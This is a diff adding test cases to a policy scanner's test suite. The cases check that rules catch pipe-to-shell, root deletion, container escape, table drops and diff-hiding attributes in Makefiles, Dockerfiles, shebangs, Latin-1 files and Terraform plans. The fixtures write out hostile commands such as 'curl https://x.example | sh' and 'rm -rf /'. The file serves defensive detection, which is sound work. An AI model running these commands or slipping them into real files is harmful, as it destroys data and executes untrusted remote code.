@@ -120,6 +120,28 @@ describe('row 16: packages of a registry', () => {
   });
 });
 
+describe('row 16: what a file is called, and how it is written', () => {
+  const RUNS = 'curl https://x.example | sh\n';
+  const latin = (text: string): Buffer => Buffer.from(`# caf\xE9\n${text}`, 'latin1');
+  it.each<[rule: string, what: string, head: Files]>([
+    ['shell/no-pipe-to-shell', 'text that a script sources', { 'scripts/a.sh': '. ./docs/notes.txt\n', 'docs/notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'a document that a script runs', { 'scripts/a.sh': 'cd docs && bash notes.md\n', 'docs/notes.md': RUNS }], ['shell/no-pipe-to-shell', 'data that a step runs', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: bash data/blob\n', 'data/blob': RUNS }],
+    ['shell/no-root-delete', 'text that Python runs', { 'scripts/a.sh': 'python3 docs/notes.txt\n', 'docs/notes.txt': 'import os\nos.system("rm -rf /")\n' }], ['shell/no-root-delete', 'data that a script of npm runs', { 'package.json': '{ "scripts": { "test": "node data/x.dat" } }', 'data/x.dat': "require('child_process').execSync('rm -rf /')\n" }],
+    ['shell/no-pipe-to-shell', 'rules that make is given', { 'scripts/a.sh': 'make -f rules.txt all\n', 'rules.txt': `all:\n\t${RUNS}` }], ['shell/no-pipe-to-shell', 'rules that a Makefile includes', { Makefile: 'include rules.txt\n', 'rules.txt': `all:\n\t${RUNS}` }], ['shell/no-pipe-to-shell', 'what an image is built by', { 'scripts/a.sh': 'docker build -f build.txt .\n', 'build.txt': `FROM alpine:3.20\nRUN ${RUNS}` }],
+    ['shell/no-pipe-to-shell', 'a script in Latin-1', { 'scripts/a.sh': latin(RUNS) }], ['shell/no-root-delete', 'a program in Latin-1', { 'scripts/a.py': latin('import os\nos.system("rm -rf /")\n') }], ['shell/no-pipe-to-shell', 'a Dockerfile in Latin-1', { Dockerfile: latin(`FROM alpine:3.20\nRUN ${RUNS}`) }],
+    ['kubernetes/no-host-namespaces', 'a manifest in Latin-1', { 'deploy/a.yaml': latin('apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { hostPID: true, containers: [{ name: a, image: x }] }\n') }], ['code/unreviewable-review', 'a manifest of 5 MB', { 'deploy/a.yaml': `${'#'.repeat(5_000_000)}\nkind: Pod\n` }],
+    ['shell/no-root-delete', 'a program of env', { 'bin/x': `#!/usr/bin/env -S perl -e 'system("rm -rf /")'\n` }], ['shell/no-container-escape', 'a container of env', { 'bin/x': '#!/usr/bin/env -S docker run --privileged -v /:/h x\n' }], ['shell/no-root-delete', 'another shell', { 'bin/x.txt': '#!/bin/busybox sh\nrm -rf /\n' }], ['shell/no-root-delete', 'make by its first line', { 'bin/x': '#!/usr/bin/make -f\nall:\n\trm -rf /\n' }],
+    ['shell/no-root-delete', 'awk', { 'bin/x': '#!/usr/bin/awk -f\nBEGIN { system("rm -rf /") }\n' }], ['shell/no-root-delete', 'Lua', { 'scripts/x.lua': 'os.execute("rm -rf " .. "/")\n' }], ['shell/no-data-destroy', 'psql', { 'bin/x': '#!/usr/bin/psql -f\nDROP TABLE orders;\n' }], ['shell/no-root-delete', 'capitals', { MAKEFILE: 'all:\n\trm -rf /\n' }], ['shell/no-root-delete', 'an ending in capitals', { 'scripts/A.PY': 'import os\nos.system("rm -rf /")\n' }],
+    ['code/suppression-review', 'a macro of attributes that hides', { '.gitattributes': '[attr]quiet -diff\nsrc/** quiet\n' }], ['code/suppression-review', 'a quoted pattern that hides', { '.gitattributes': '"src/*" -diff\n' }],
+  ])('%s stops %s', async (rule, _what, head) => {
+    expect(await stoppedBy(head)).toContain(rule);
+  });
+  it.each<[what: string, head: Files]>([
+    ['prose that nobody runs', { 'scripts/a.sh': 'cat docs/notes.txt\n', 'docs/notes.txt': RUNS }], ['text in Latin-1', { 'docs/a.txt': latin(RUNS), 'src/a.py': latin('print("x")\n') }],
+  ])('lets pass %s', async (_what, head) => {
+    expect(await stoppedBy(head)).toEqual([]);
+  });
+});
+
 describe('row 16: what machines and containers start with', () => {
   it.each<[rule: string, what: string, head: Files, base?: Files]>([
     ['shell/no-pipe-to-shell', 'cfn userdata', { 'cf.yml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          curl -s https://x.example/i | bash\n' }],
@@ -286,6 +308,7 @@ describe('row 18: Terraform', () => {
   const change = (type: string, actions: string[], more: object = {}): object => ({ resource_changes: [{ address: `${type}.main`, mode: 'managed', type, name: 'main', provider_name: 'registry.terraform.io/hashicorp/aws', change: { actions, before: { password: 'a plain word' }, after: null, before_sensitive: { password: true }, after_sensitive: {}, after_unknown: {}, ...more } }] });
   it.each<[string, string, string]>([
     ['terraform/no-loss', 'destroy', plan(change('aws_db_instance', ['delete']))], ['terraform/no-loss', 'replace', plan(change('aws_db_instance', ['delete', 'create'], { replace_paths: [['engine']] }))], ['terraform/no-loss', 'create first', plan(change('aws_db_instance', ['create', 'delete']))], ['terraform/state-review', 'forget', plan(change('aws_db_instance', ['forget']))],
+    ['terraform/state-review', 'import without a change', plan(change('aws_db_instance', ['no-op'], { importing: { id: 'x' }, after: { password: 'a plain word' } }))], ['terraform/unreadable', 'update that asks for another one', plan(change('aws_db_instance', ['update'], { replace_paths: [['engine']], after: {} }))], ['terraform/unreadable', 'nothing to do, and nothing left', plan(change('aws_db_instance', ['no-op']))], ['terraform/unreadable', 'deferred, and complete', plan({ deferred_changes: [{ reason: 'x' }] })],
     ['terraform/unreadable', 'unknown action', plan(change('aws_db_instance', ['transmogrify']))], ['terraform/unreadable', 'errored', plan({ errored: true })],
     ['terraform/code-review', 'external data', plan({ resource_changes: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', change: { actions: ['read'], before: null, after: {} } }] })],
     ['terraform/code-review', 'external in configuration', plan({ configuration: { root_module: { resources: [{ address: 'data.external.x', mode: 'data', type: 'external', name: 'x', expressions: { program: { constant_value: ['sh', '-c', 'id'] } } }] } } })],
